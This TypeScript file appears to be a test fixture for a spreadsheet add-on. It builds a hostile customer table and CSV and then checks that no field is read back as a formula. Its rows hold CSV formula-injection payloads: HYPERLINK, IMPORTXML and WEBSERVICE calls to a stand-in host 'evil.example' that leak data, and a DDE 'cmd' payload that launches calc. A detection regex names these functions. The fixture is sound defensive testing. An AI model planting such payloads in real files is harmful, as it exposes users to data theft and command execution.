/**
 * A customer file written to attack a spreadsheet: formula text (and the other characters a
 * spreadsheet may start a formula with: + - @) in the header, ids, dates, segments, amounts and
 * names, and quotes in names. Loaded anywhere, every field must stay the value it is.
 */
import type ExcelJS from 'exceljs';
import { PORTABLE_FUNCTIONS, functionsIn } from './formulaFunctions';

export const HOSTILE_HEADER = '=HYPERLINK("http://evil.example/?leak","Customer ID")';

/** Customer rows: id, start, end, plan, name, MRR. Rows 4 (start) and, with amounts, 3 (MRR) cannot be used. */
const ROWS: string[][] = [
  ['=1+1 #5', '2024-01-05', '', 'Pro', 'Ann "the" one', '10'],
  ['=1+1 #6', '2024-01-06', '2024-02-10', '+SUM(1;2)', '-x', '12'],
  ['=IMPORTXML("http://evil.example/","//a")', '2024-01-20', '', '=HYPERLINK("http://evil.example/?leak","click")', '@SUM(1)', '=WEBSERVICE("http://evil.example/?x")'],
  ['@C4', '=DATE(2024,1,1)', '', 'Basic', "'quoted'", '5'],
  ['-C5', '2024-02-03', '', '-Pro', "=cmd|' /C calc'!A0", '7'],
];

/** The table as fields: a header and the rows, with an MRR column when `amounts`. */
export function hostileFields(amounts: boolean): string[][] {
  const header = [HOSTILE_HEADER, 'Start date', 'End date', 'Plan', 'Name', 'MRR'];
  return [header, ...ROWS].map((row) => (amounts ? row : row.slice(0, 5)));
}

/** The table as CSV (RFC 4180 quoting). */
export function hostileCsv(amounts: boolean): string {
  const field = (text: string) => (/[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text);
  return `${hostileFields(amounts).map((row) => row.map(field).join(',')).join('\r\n')}\r\n`;
}

/** Fields a spreadsheet would read as something other than text if they were typed: all must stay text. */
export function riskyFields(amounts: boolean): { row: number; col: number; text: string }[] {
  const out: { row: number; col: number; text: string }[] = [];
  hostileFields(amounts).forEach((row, r) => row.forEach((text, c) => /^[=+\-@']|"/.test(text) && !/^[-+]?\d+$/.test(text) && out.push({ row: r, col: c, text })));
  return out;
}

/** Every formula cell of a workbook read back with exceljs. */
export function formulaCells(workbook: ExcelJS.Workbook): { sheet: string; address: string; formula: string }[] {
  const cells: { sheet: string; address: string; formula: string }[] = [];
  for (const sheet of workbook.worksheets) {
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        const value = cell.value;
        if (value && typeof value === 'object' && ('formula' in value || 'sharedFormula' in value)) {
          cells.push({ sheet: sheet.name, address: cell.address, formula: String((value as ExcelJS.CellFormulaValue).formula ?? (value as ExcelJS.CellSharedFormulaValue).sharedFormula) });
        }
      }),
    );
  }
  return cells;
}

/** Formulas that are not the add-on's own: outside the churn sheets, calling another function, or quoting the file. */
export function foreignFormulas(formulas: { sheet: string; formula: string }[], churnSheet: string): { sheet: string; formula: string }[] {
  return formulas.filter(
    ({ sheet, formula }) => sheet !== churnSheet || functionsIn(formula).some((fn) => !PORTABLE_FUNCTIONS.has(fn)) || /evil|HYPERLINK|IMPORTXML|WEBSERVICE|cmd/i.test(formula),
  );
}
